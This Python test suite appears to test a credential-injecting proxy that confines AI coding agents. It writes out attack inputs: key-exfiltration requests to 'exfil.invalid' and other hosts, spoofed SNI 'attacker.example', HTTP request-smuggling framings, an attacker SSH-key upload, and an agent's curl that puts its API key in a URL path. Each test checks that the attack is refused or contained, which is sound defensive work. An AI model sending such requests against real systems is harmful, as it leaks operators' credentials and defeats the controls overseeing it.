    async with wire(tmp_path, takes_anything, plain=True, allow=("exfil.invalid:80",)) as w:
        answer = await plain_ask(w, exfiltration("exfil.invalid", w.placeholder))
        assert answer.startswith(b"HTTP/1.1 403"), answer
        records = network_records(tmp_path, "exfil.invalid")
        assert records, "nothing recorded"
        assert not any(r.get("failed") for r in records), records  # a refusal, not a failure
        assert any("exfiltration" in str(r.get("reason")) for r in records), records


async def test_a_placeholder_sent_to_an_allowed_host_that_resolves_is_refused_and_recorded_as_an_exfiltration_try(
    tmp_path: Path,
) -> None:
    """The allowed neighbour of the refusal: the same try to an allowed host
    that resolves (a second gateway, the key not bound to it) is refused and
    recorded as the exfiltration try it is, nothing sent; without the
    placeholder the same request is carried."""
    async with wire(tmp_path, takes_anything, takes_anything, plain=True) as w:
        other = f"127.0.0.1:{w.origins[1].port}"
        answer = await plain_ask(w, exfiltration(other, w.placeholder))
        assert answer.startswith(b"HTTP/1.1 403"), answer
        assert w.origins[1].requests == []
        records = network_records(tmp_path, "127.0.0.1")
        refused = [r for r in records if "exfiltration" in str(r.get("reason"))]
        assert refused and not any(r.get("failed") for r in refused), records
        carried = await plain_ask(w, exfiltration(other, "nothing-secret"))
        assert carried.startswith(b"HTTP/1.1 200"), carried


# -- attacks that held -------------------------------------------------------------------


async def raw_through(w: Wire, data: bytes, server_hostname: str = "127.0.0.1") -> bytes:
    """Raw bytes inside a CONNECT tunnel's TLS to the bound host (SNI
    ``server_hostname``); what comes back until the proxy closes."""
    stream = await trio.open_tcp_stream("127.0.0.1", w.port)
    target = f"127.0.0.1:{w.origin.port}"
    await stream.send_all(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += await stream.receive_some(4096)
    context = ssl.create_default_context(cadata=w.ca.cert_pem.decode())
    context.check_hostname = False  # the agent may send any SNI; it trusts what comes back
    tls = trio.SSLStream(stream, context, server_hostname=server_hostname)
    await tls.send_all(data)
    got = b""
    with contextlib.suppress(trio.BrokenResourceError, ssl.SSLError, OSError):
        with trio.move_on_after(5):
            while chunk := await tls.receive_some(65536):
                got += chunk
    return got


async def test_the_key_goes_to_the_host_judged_whatever_host_header_sni_or_absolute_target_the_agent_sends(
    tmp_path: Path,
) -> None:
    """Host and SNI naming another host, an absolute https:// target naming
    another, a CONNECT inside the tunnel: each reaches the bound host (the
    connection the proxy judged and opened), Host rewritten to it; no other
    host is connected to, so the real key goes nowhere else."""
    async with wire(tmp_path, takes_anything, takes_anything) as w:
        other = f"127.0.0.1:{w.origins[1].port}"
        requests = [
            f"GET /v1/models HTTP/1.1\r\nHost: {other}\r\nx-api-key: {w.placeholder}\r\nConnection: close\r\n\r\n",
            f"GET https://{other}/v1/models HTTP/1.1\r\nHost: {other}\r\nx-api-key: {w.placeholder}\r\nConnection: close\r\n\r\n",
            f"CONNECT {other} HTTP/1.1\r\nHost: {other}\r\nx-api-key: {w.placeholder}\r\n\r\n",
        ]
        for request in requests:
            await raw_through(w, request.encode(), server_hostname="attacker.example")
        assert w.origins[1].requests == []  # the other host never reached
        hosts = {dict(r.headers.raw_items())[b"host"] for r in w.origin.requests}
        assert hosts <= {f"127.0.0.1:{w.origin.port}".encode()}, hosts
        assert len(w.origin.requests) >= 2  # the two GETs (the CONNECT the stand-in may refuse)


@pytest.mark.parametrize(
    "smuggled",
    [
        "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
        "Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcd",
        "X-Note: a\r\n folded-{p}\r\nContent-Length: 0\r\n\r\n",
        "X-Note: a\nx-api-key: {p}\r\nContent-Length: 0\r\n\r\n",
    ],
    ids=["CL and TE", "TE not chunked", "two CLs", "a folded header", "a bare LF"],
)
async def test_a_request_framed_two_ways_is_refused_before_anything_reaches_the_bound_host(
    tmp_path: Path, smuggled: str
) -> None:
    async with wire(tmp_path, takes_anything) as w:
        head = f"POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1\r\nx-api-key: {w.placeholder}\r\n"
        hidden = f"GET /v1/echo HTTP/1.1\r\nHost: 127.0.0.1\r\nx-note: {w.placeholder}\r\n\r\n"
        got = await raw_through(w, (head + smuggled.format(p=w.placeholder) + hidden).encode())
        assert got.startswith(b"HTTP/1.1 400"), got[:200]
        assert w.origin.requests == []
        # the allowed neighbour: the same head framed once is carried
        good = await raw_through(w, (head + "Content-Length: 2\r\nConnection: close\r\n\r\n{}").encode())
        assert good.startswith(b"HTTP/1.1 200"), good[:200]


async def test_pipelined_requests_on_a_kept_connection_each_get_the_key_and_each_is_recorded(
    tmp_path: Path,
) -> None:
    """Three requests sent at once on one connection: three answered, three
    recorded, none read as another's body."""
    async with wire(tmp_path, takes_anything) as w:
        one = f"POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1\r\nx-api-key: {w.placeholder}\r\nContent-Length: 2\r\n\r\n{{}}"
        last = one.replace("Content-Length: 2", "Content-Length: 2\r\nConnection: close")
        got = await raw_through(w, (one * 2 + last).encode())
        assert got.count(b"HTTP/1.1 200") == 3, got
        assert w.origin.bodies == [b"{}"] * 3
        await recorded(w, 3)
        assert len(w.calls) == 3


async def test_the_agents_trust_folder_holds_the_attempts_ca_certificate_and_no_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What the sandbox is given to trust the proxy: certificates only; the CA's
    key, that would mint a certificate for any host, is never written."""
    from governor.confine.model_api import open_model_api

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.delenv("ACP_GOVERNOR_UPSTREAM_CA", raising=False)
    credentials = Credentials([Credential("ANTHROPIC_API_KEY", KEY, placeholder_for(KEY), (Binding("api.anthropic.com", 443),))])

    async def record(call: ModelCall) -> None:
        return None

    api = open_model_api(credentials, "attack5", record)
    assert api is not None
    written = [p for p in api.trust.rglob("*") if p.is_file()]
    assert written == [api.bundle]
    text = api.bundle.read_bytes()
    assert b"PRIVATE KEY" not in text
    assert api.interception.ca is not None and api.interception.ca.cert_pem in text


# -- the key in clear ------------------------------------------------------------------


async def test_the_key_of_an_https_api_never_crosses_the_network_in_clear(tmp_path: Path) -> None:
    async with wire(tmp_path, takes_anything) as w:
        at = f"127.0.0.1:{w.origin.port}"
        answer = await plain_ask(
            w, f"GET http://{at}/v1/models HTTP/1.1\r\nHost: {at}\r\nx-api-key: {w.placeholder}\r\n\r\n".encode()
        )
        assert not any(KEY.encode() in seen for seen in w.origin.plaintext), "the real key went out in clear"
        assert answer.startswith(b"HTTP/1.1 403"), answer


async def test_the_key_of_an_https_api_reaches_it_inside_tls_and_plain_http_without_a_placeholder_goes_through(
    tmp_path: Path,
) -> None:
    """The allowed neighbours: the placeholder through CONNECT and TLS becomes
    the real key inside TLS; a plain request to the same port without one is
    carried as any allowed plain request is (and reaches the port in clear)."""
    async with wire(tmp_path, takes_anything) as w:
        status, _, _ = await ask(w, "GET", "/v1/models", [("x-api-key", w.placeholder)])
        assert status == 200
        assert dict(w.origin.requests[0].headers.raw_items())[b"x-api-key"] == KEY.encode()
        at = f"127.0.0.1:{w.origin.port}"
        await plain_ask(w, f"GET http://{at}/v1/models HTTP/1.1\r\nHost: {at}\r\nx-note: nothing\r\n\r\n".encode())
        assert any(b"x-note: nothing" in seen for seen in w.origin.plaintext)


# -- tokens spent where no response says so ---------------------------------------------


class BatchApi:
    """The Messages Batches API as Anthropic serves it: a batch is accepted
    with no usage in its answer, processed at the API's pace, its results a
    JSON Lines file, each line a message with its usage. ``billed``: the
    tokens the API processed for the key."""

    def __init__(self) -> None:
        self.billed = 0

    async def __call__(self, request: h11.Request, body: bytes) -> Reply:
        path = request.target.split(b"?")[0]
        json_type = [(b"content-type", b"application/json")]
        if path == b"/v1/messages/batches" and request.method == b"POST":
            count = len(json.loads(body)["requests"])
            self.billed += count * 1000
            batch = {"id": "msgbatch_standin", "type": "message_batch", "processing_status": "ended",
                     "request_counts": {"succeeded": count}, "results_url": "/v1/messages/batches/msgbatch_standin/results"}  # fmt: skip
            return 200, json_type, json.dumps(batch).encode()
        if path.endswith(b"/results"):
            line = {"custom_id": "x", "result": {"type": "succeeded", "message": json.loads(message(600, 400))}}
            return 200, [(b"content-type", b"application/binary")], (json.dumps(line) + "\n").encode() * 3
        self.billed += 1000
        return 200, json_type, message(600, 400)


def batch_of(count: int) -> bytes:
    one = {"model": "claude-standin-1", "max_tokens": 1024, "messages": [{"role": "user", "content": "hi"}]}
    return json.dumps({"requests": [{"custom_id": str(i), "params": one} for i in range(count)]}).encode()


async def test_tokens_spent_through_the_batches_api_cannot_pass_the_tokens_limit_unseen(tmp_path: Path) -> None:
    api = BatchApi()
    async with wire(tmp_path, api, tokens=500) as w:
        key = [("x-api-key", w.placeholder), ("content-type", "application/json")]
        batch = await ask(w, "POST", "/v1/messages/batches", key, batch_of(3))
        results = await ask(w, "GET", "/v1/messages/batches/msgbatch_standin/results", key)
        after = await ask(w, "POST", "/v1/messages", key, b"{}")
        assert api.billed >= 3000 or batch[0] == 403
        # the batch was refused, or once its tokens were seen the next call is
        assert batch[0] == 403 or after[0] == 403, (batch[0], results[0], after[0], api.billed)


async def test_a_batch_is_carried_when_no_tokens_limit_is_set_and_messages_calls_count_when_one_is(
    tmp_path: Path,
) -> None:
    """The allowed neighbours: without a tokens limit the same batch is carried;
    with one, a Messages call's tokens are counted and the call after it refused."""
    async with wire(tmp_path, BatchApi()) as w:
        key = [("x-api-key", w.placeholder), ("content-type", "application/json")]
        assert (await ask(w, "POST", "/v1/messages/batches", key, batch_of(3)))[0] == 200
    (tmp_path / "limited").mkdir()
    async with wire(tmp_path / "limited", BatchApi(), tokens=500) as w:
        key = [("x-api-key", w.placeholder), ("content-type", "application/json")]
        assert (await ask(w, "POST", "/v1/messages", key, b"{}"))[0] == 200
        assert (await ask(w, "POST", "/v1/messages", key, b"{}"))[0] == 403


# -- the key's whole authority on a bound host -----------------------------------------


def copilot_github_token(origins: list[Origin]) -> Credentials:
    """What the governor holds for the real ``copilot`` preset given ``GH_TOKEN``,
    the stand-in in the place of ``api.github.com:443`` (a preset host,
    bound as the preset binds it: the binding the preset gives the token
    there, its host and port moved to the stand-in's)."""
    preset = presets()["copilot"]
    assert "api.github.com:443" in preset.api_hosts and "GH_TOKEN" in preset.env
    (token,) = held_credentials(preset, {"GH_TOKEN": GITHUB_TOKEN}, sandboxed=True).held
    (github,) = [b for b in token.bindings if b.host == "api.github.com"]
    moved = dataclasses.replace(github, host="127.0.0.1", port=origins[0].port)
    return Credentials([dataclasses.replace(token, bindings=(moved,))])


async def test_the_github_token_bound_for_copilot_is_not_put_into_a_request_that_adds_an_ssh_key(
    tmp_path: Path,
) -> None:
    async with wire(tmp_path, takes_anything, held=copilot_github_token) as w:
        body = json.dumps({"title": "laptop", "key": "ssh-ed25519 AAAAattacker"}).encode()
        await ask(w, "POST", "/user/keys", [("authorization", f"token {w.placeholder}")], body)
        sent = [dict(r.headers.raw_items()).get(b"authorization") for r in w.origin.requests]
        assert f"token {GITHUB_TOKEN}".encode() not in sent, "the real token added the agent's SSH key"


async def test_the_github_token_bound_for_copilot_reaches_its_token_exchange(tmp_path: Path) -> None:
    """The allowed neighbour: Copilot's own call on api.github.com gets the real token."""
    async with wire(tmp_path, takes_anything, held=copilot_github_token) as w:
        status, _, _ = await ask(w, "GET", "/copilot_internal/v2/token", [("authorization", f"token {w.placeholder}")])
        assert status == 200
        assert dict(w.origin.requests[0].headers.raw_items())[b"authorization"] == f"token {GITHUB_TOKEN}".encode()


# -- the same, by a real agent in its real sandbox --------------------------------------

sys.path.insert(0, str(Path(__file__).parents[1] / "e2e"))
from npm_agents import CLAUDE_AGENT_ACP, Job, installed, preset_path  # noqa: E402
from standin import StandIn, bash  # noqa: E402

from governor.attempt.lifecycle import run_attempt  # noqa: E402
from governor.sandbox.net.tls import UPSTREAM_CA_ENV  # noqa: E402


@pytest.fixture
def claude_job(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Job, ssl.SSLContext]:
    """A real claude-agent-acp attempt's folders, and its stand-in API's TLS
    (a test CA the governor is told to trust upstream)."""
    installed(CLAUDE_AGENT_ACP)
    ca = AttemptCA.make("the stand-in's test CA")
    (tmp_path / "standin-ca.pem").write_bytes(ca.cert_pem)
    monkeypatch.setenv(UPSTREAM_CA_ENV, str(tmp_path / "standin-ca.pem"))
    return Job.under(tmp_path), ca.server_context("127.0.0.1")


async def echo_attempt(job: Job, tls: ssl.SSLContext, key: str, path: str) -> tuple[str, str]:
    """claude-agent-acp whose Bash asks its own API for ``path`` (the shell
    expands it in the sandbox) and writes the answer to the workspace; the
    tool's result and that file."""
    send = f'curl -s -m 20 "$ANTHROPIC_BASE_URL{path}" > answer.txt; cat answer.txt'
    with StandIn([bash(send)], tls=tls) as model:
        kw = job.claude(model.url)
        kw["environ"]["ANTHROPIC_API_KEY"] = key
        kw["environ"]["PATH"] = preset_path(kw["environ"], "claude-agent-acp")
        outcome = await run_attempt(job.spec(None, agent="claude", **kw))
    assert outcome.status == "completed", outcome.reason
    (result,) = model.tool_results()
    answer = job.workspace / "answer.txt"
    return str(result["content"]), answer.read_text(errors="replace") if answer.exists() else ""


@pytest.mark.e2e
async def test_a_real_agents_bash_cannot_read_the_real_key_from_its_own_apis_answer(
    claude_job: tuple[Job, ssl.SSLContext],
) -> None:
    job, tls = claude_job
    key = "sk-ant-api03-" + secrets.token_urlsafe(60)
    result, answer = await echo_attempt(job, tls, key, "/v1/$ANTHROPIC_API_KEY")
    # closed: the placeholder in a path is refused by the proxy, never sent on with the key
    assert "not_found_error" not in answer and "outside a key's place" in answer, (result, answer)
    assert key not in answer and key not in result, "the agent wrote the real key into its workspace"


@pytest.mark.e2e
async def test_a_real_agents_bash_reads_its_own_apis_answer_to_a_path_without_the_placeholder(
    claude_job: tuple[Job, ssl.SSLContext],
) -> None:
    """The allowed neighbour: the same request without the placeholder is
    answered, the path quoted back, through the attempt's CA."""
    job, tls = claude_job
    key = "sk-ant-api03-" + secrets.token_urlsafe(60)
    result, answer = await echo_attempt(job, tls, key, "/v1/neighbour")
    assert "not_found_error" in answer and "/v1/neighbour" in answer, (result, answer)
    assert key not in answer



async def test_a_base_url_the_agent_points_at_another_host_gets_the_placeholder_and_never_the_key(
    tmp_path: Path,
) -> None:
    """The agent sets its own ``ANTHROPIC_BASE_URL`` to another allowed HTTPS
    host: that host is a tunnel the proxy does not read (its own certificate
    reaches the agent), so it gets the placeholder, worth nothing; the real key
    only ever goes to the host the operator's variable named."""
    async with wire(tmp_path, takes_anything, takes_anything) as w:
        other = w.origins[1]
        tls = await through(w, to=other, trusted=w.test_ca.cert_pem)
        client = h11.Connection(h11.CLIENT)
        headers = [("Host", "127.0.0.1"), ("x-api-key", w.placeholder), ("content-length", "2")]
        await tls.send_all(client.send(h11.Request(method="POST", target="/v1/messages", headers=headers)))
        await tls.send_all(client.send(h11.Data(data=b"{}")) + client.send(h11.EndOfMessage()))
        while not isinstance(event := client.next_event(), h11.Response):
            if event is h11.NEED_DATA:
                client.receive_data(await tls.receive_some(65536))
        assert event.status_code == 200
        assert dict(other.requests[0].headers.raw_items())[b"x-api-key"] == w.placeholder.encode()
        assert w.calls == []  # a tunnel: nothing read, nothing recorded
